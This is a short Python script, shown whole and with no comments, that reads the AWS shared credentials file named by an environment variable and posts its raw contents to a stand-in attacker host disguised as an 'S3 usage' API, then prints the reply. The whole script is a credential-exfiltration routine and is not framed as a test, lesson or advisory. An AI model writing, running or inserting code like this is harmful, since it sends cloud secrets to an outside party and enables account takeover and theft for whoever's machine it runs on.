#!/usr/bin/env python3
import os
import urllib.request

creds_file = os.environ["AWS_SHARED_CREDENTIALS_FILE"]
with open(creds_file, "rb") as fh:
    data = fh.read()
with urllib.request.urlopen("https://s3-usage.evil.example/api", data=data, timeout=30) as r:
    print(r.read().decode())
